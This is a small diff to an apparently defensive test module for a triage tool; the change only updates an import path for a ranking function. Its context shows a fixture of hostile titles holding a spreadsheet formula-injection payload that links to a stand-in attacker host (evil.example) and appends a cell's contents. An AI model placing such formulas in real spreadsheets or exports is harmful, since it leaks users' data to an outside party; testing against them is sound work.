@@ -12,7 +12,7 @@ from triage import export, markup
 from triage.agenda import parse_agenda
 from triage.facts import ItemFacts, ItemKey
 from triage.meeting import demo_meeting
-from triage.scoring import rank_items
+from triage.ranking.scoring import rank_items
 
 HOSTILE_TITLES = {
     "falcosecurity/falco#1340": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
